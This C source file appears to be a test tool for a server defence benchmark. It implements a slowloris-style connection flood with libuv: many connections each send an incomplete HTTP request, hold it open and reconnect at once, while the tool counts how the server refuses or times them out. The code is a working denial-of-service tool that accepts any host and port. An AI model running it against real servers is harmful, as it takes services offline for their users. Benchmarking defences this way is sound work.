/*
 * xcs-bench-flood: a connection flood with half-sent requests, the
 * slowloris kind, for the defence benchmark (bench/flood).
 *
 * Keeps up to C connections to HOST:PORT from the local address SOURCE.
 * Each connects, sends a request without its end (no newline) and then
 * dawdles: it reads and drops whatever comes back and sends nothing more.
 * When the server closes one, it connects again at once. It stops after
 * SECONDS, or after MAX attempts, and prints one line:
 *
 *   attempts=N connected=N closed_at_once=N closed_later=N failed=N open_at_end=N
 *
 * closed_at_once counts connections the server closed within 100 ms of
 * connecting (refused by a limit); closed_later those it closed after
 * (timed out); failed the connects that failed. Exit status: 0, or 2 for
 * bad usage.
 */
#define _POSIX_C_SOURCE 200809L

#include <inttypes.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <uv.h>

struct slot {
    uv_tcp_t tcp;
    uv_connect_t connect;
    uv_write_t write;
    uint64_t connected_at; /* uv_now, 0 until connected */
    int open;              /* the handle exists and is not closing */
};

static struct {
    const char *host, *source, *partial;
    int port, connections;
    double seconds;
    uint64_t max_attempts;
} opt = {
    .host = "127.0.0.1",
    .source = "127.0.0.1",
    .partial = "GET / HTTP/1.1\r\nHost: flood\r\nX-Dawdle: ",
    .port = -1,
    .connections = 1000,
    .seconds = 10,
    .max_attempts = 10000000,
};

static uv_loop_t loop;
static uv_timer_t stop_timer;
static struct slot *slots;
static struct sockaddr_in dest, source;
static int stopping;
static int next_port; /* the source port of the last attempt */
static uint64_t attempts, connected, closed_at_once, closed_later, failed;
static char sink[64 * 1024];

static void start(struct slot *s);

static void closed_cb(uv_handle_t *h)
{
    struct slot *s = h->data;
    s->open = 0;
    if (!stopping)
        start(s); /* as the flood does: straight back */
}

static void drop(struct slot *s)
{
    if (s->open && !uv_is_closing((uv_handle_t *)&s->tcp))
        uv_close((uv_handle_t *)&s->tcp, closed_cb);
}

static void alloc_cb(uv_handle_t *h, size_t hint, uv_buf_t *buf)
{
    (void)h, (void)hint;
    *buf = uv_buf_init(sink, sizeof sink);
}

static void read_cb(uv_stream_t *st, ssize_t n, const uv_buf_t *buf)
{
    (void)buf;
    struct slot *s = st->data;
    if (n >= 0)
        return; /* an echo of the half request: dropped */
    if (uv_now(&loop) - s->connected_at < 100)
        closed_at_once++;
    else
        closed_later++;
    drop(s);
}

static void write_cb(uv_write_t *req, int status)
{
    (void)req, (void)status; /* a failed write shows up as a read error */
}

static void connect_cb(uv_connect_t *req, int status)
{
    struct slot *s = req->data;
    if (status < 0) {
        if (status != UV_ECANCELED)
            failed++;
        drop(s);
        return;
    }
    connected++;
    s->connected_at = uv_now(&loop);
    uv_buf_t b = uv_buf_init((char *)opt.partial, (unsigned)strlen(opt.partial));
    if (uv_write(&s->write, (uv_stream_t *)&s->tcp, &b, 1, write_cb) < 0 ||
        uv_read_start((uv_stream_t *)&s->tcp, alloc_cb, read_cb) < 0)
        drop(s);
}

static void start(struct slot *s)
{
    if (stopping || attempts >= opt.max_attempts)
        return;
    attempts++;
    uv_tcp_init(&loop, &s->tcp);
    s->tcp.data = s->connect.data = s->write.data = s;
    s->open = 1;
    s->connected_at = 0;
    /* The source address is what a per-address limit counts. Its port is
     * picked here, in turn: left to the kernel, every bind (or connect) to
     * one destination searches past the ports already taken, and 15,000
     * connections take a minute of system time. A port in use fails the
     * connect (EADDRINUSE, counted as failed), and the slot tries the next. */
    next_port = next_port < 10000 || next_port >= 65535 ? 10000 : next_port + 1;
    source.sin_port = htons((uint16_t)next_port);
    if (uv_tcp_bind(&s->tcp, (const struct sockaddr *)&source, 0) < 0 ||
        uv_tcp_connect(&s->connect, &s->tcp, (const struct sockaddr *)&dest, connect_cb) < 0) {
        failed++;
        stopping = attempts >= opt.max_attempts;
        uv_close((uv_handle_t *)&s->tcp, NULL); /* not straight back: it would spin */
        s->open = 0;
    }
}

static void stop_cb(uv_timer_t *t)
{
    (void)t;
    stopping = 1;
    uv_close((uv_handle_t *)&stop_timer, NULL);
    int open = 0;
    for (int i = 0; i < opt.connections; i++) {
        if (slots[i].open && slots[i].connected_at)
            open++;
        drop(&slots[i]);
    }
    printf("attempts=%" PRIu64 " connected=%" PRIu64 " closed_at_once=%" PRIu64
           " closed_later=%" PRIu64 " failed=%" PRIu64 " open_at_end=%d\n",
           attempts, connected, closed_at_once, closed_later, failed, open);
    fflush(stdout);
}

static int parse(int argc, char **argv)
{
    for (int i = 1; i + 1 < argc; i += 2) {
        const char *name = argv[i], *v = argv[i + 1];
        char *end;
        if (strcmp(name, "--host") == 0) {
            opt.host = v;
        } else if (strcmp(name, "--source") == 0) {
            opt.source = v;
        } else if (strcmp(name, "--partial") == 0) {
            opt.partial = v;
        } else if (strcmp(name, "--port") == 0) {
            opt.port = (int)strtol(v, &end, 10);
            if (*end || opt.port < 1 || opt.port > 65535)
                return -1;
        } else if (strcmp(name, "--connections") == 0) {
            opt.connections = (int)strtol(v, &end, 10);
            if (*end || opt.connections < 1 || opt.connections > 60000)
                return -1;
        } else if (strcmp(name, "--seconds") == 0) {
            opt.seconds = strtod(v, &end);
            if (*end || !(opt.seconds > 0 && opt.seconds <= 3600))
                return -1;
        } else if (strcmp(name, "--max-attempts") == 0) {
            opt.max_attempts = strtoull(v, &end, 10);
            if (*end || opt.max_attempts < 1)
                return -1;
        } else {
            return -1;
        }
    }
    return argc % 2 == 1 && opt.port > 0 ? 0 : -1;
}

int main(int argc, char **argv)
{
    if (parse(argc, argv) < 0 || uv_ip4_addr(opt.host, opt.port, &dest) < 0 ||
        uv_ip4_addr(opt.source, 0, &source) < 0) {
        fprintf(stderr,
                "usage: %s --port N [--host 127.0.0.1] [--source 127.0.0.1] [--connections 1000]\n"
                "       [--seconds 10] [--max-attempts 10000000] [--partial TEXT]\n",
                argv[0]);
        return 2;
    }
    signal(SIGPIPE, SIG_IGN);
    slots = calloc((size_t)opt.connections, sizeof *slots);
    if (slots == NULL) {
        fprintf(stderr, "flood: out of memory\n");
        return 1;
    }
    uv_loop_init(&loop);
    uv_timer_init(&loop, &stop_timer);
    uv_timer_start(&stop_timer, stop_cb, (uint64_t)(opt.seconds * 1000), 0);
    for (int i = 0; i < opt.connections; i++)
        start(&slots[i]);
    uv_run(&loop, UV_RUN_DEFAULT);
    uv_loop_close(&loop);
    free(slots);
    return 0;
}
